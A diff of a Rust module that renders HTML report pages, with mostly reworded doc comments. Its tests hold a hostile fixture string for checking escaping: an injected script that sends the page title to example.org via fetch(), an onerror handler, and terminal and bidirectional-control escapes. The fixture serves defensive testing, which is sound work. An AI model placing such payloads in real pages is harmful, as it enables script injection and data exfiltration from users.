@@ -1,8 +1,8 @@
 //! A self-contained HTML page with sortable tables, charts, and code side by side.
 //!
-//! Completions and logs are hostile text. Everything is escaped. Should an escape ever fail, the page's content
-//! security policy still limits the damage: it allows only the one script and the one style sheet with the hashes that
-//! it names, loads nothing, and sends nothing.
+//! Completions and logs are hostile text. All text is escaped. The page's content security policy limits the damage if
+//! an escape fails: the browser runs only the one script and uses only the one style sheet with the hashes that the
+//! policy states, loads nothing else, and sends nothing.
 
 use std::fmt::Write as _;
 
@@ -21,10 +21,10 @@ mod side_by_side;
 const SCRIPT: &str = include_str!("page/sort.js");
 const STYLE: &str = include_str!("page/page.css");
 
-/// A part of a page, top to bottom.
+/// A block of a page.
 #[derive(Debug, Clone, PartialEq)]
 pub enum Block {
-    /// A section's title; it appears in the contents.
+    /// The title of a section, which is also a link in the page's table of contents.
     Heading(String),
     /// A paragraph.
     Text(String),
@@ -32,13 +32,13 @@ pub enum Block {
     Table(Table),
     /// A chart with its footer.
     Picture(Picture),
-    /// Code, a log or another text, shown line by line under a name. It is folded until the reader opens it.
+    /// Code, a log or another text, shown line by line below a name. The text is folded until the reader opens it.
     Code {
-        /// What it is.
+        /// The name of the text.
         name: String,
         /// The text; hostile until escaped.
         text: String,
-        /// The name by which links of the page refer to it.
+        /// The id that links of the page point to, if there are such links.
         anchor: Option<String>,
     },
     /// Texts side by side, such as an evolving-aware and an evolving-ignored context.
@@ -48,9 +48,9 @@ pub enum Block {
 /// A page.
 #[derive(Debug, Clone, PartialEq)]
 pub struct ReportPage {
-    /// Its title.
+    /// The page's title.
     pub title: String,
-    /// Its parts.
+    /// The blocks, top to bottom.
     pub blocks: Vec<Block>,
 }
 
@@ -116,7 +116,7 @@ fn block_html(block: &Block) -> String {
     }
 }
 
-/// The first two lines are always visible; the others (notes, method and data) are folded.
+/// The HTML of a footer. The first two lines are always visible; the others (notes, method and data) are folded.
 fn footer(lines: &[String]) -> String {
     let lines: Vec<_> = lines
         .iter()
@@ -134,7 +134,7 @@ fn footer(lines: &[String]) -> String {
     text
 }
 
-/// A cell. More than `OPEN` links are folded.
+/// The HTML of a cell. If there are more than `OPEN` links, they are folded.
 fn cell_html(cell: &CellValue) -> String {
     const OPEN: usize = 3;
     let CellValue::Links(links) = cell else {
@@ -155,7 +155,8 @@ fn cell_html(cell: &CellValue) -> String {
     format!("<details><summary>{count} tasks</summary>{all}</details>")
 }
 
-/// A table as an HTML fragment. Its heads are buttons that sort when the page's script runs.
+/// A table as an HTML fragment. The column heads are buttons. On a page, the script sorts the table by the column of
+/// the button.
 pub(super) fn table(table: &Table) -> String {
     let class = |align| {
         if align == Align::Right {
@@ -201,7 +202,7 @@ mod tests {
     const HOSTILE: &str = "</script></pre><script>fetch('http://example.org/'+document.title)</script><img src=x onerror=alert(1)>\u{1b}]52;c;\u{202e}";
 
     #[test]
-    fn every_failed_task_is_a_link_to_what_the_page_shows_of_it() {
+    fn failed_tasks_are_links_to_their_texts_on_the_page() {
         let link = |number: usize| (format!("t{number}<"), Some(format!("failed-{number}")));
         let mut links: Vec<_> = (1..5).map(link).collect();
         links.push(("no text".to_owned(), None));
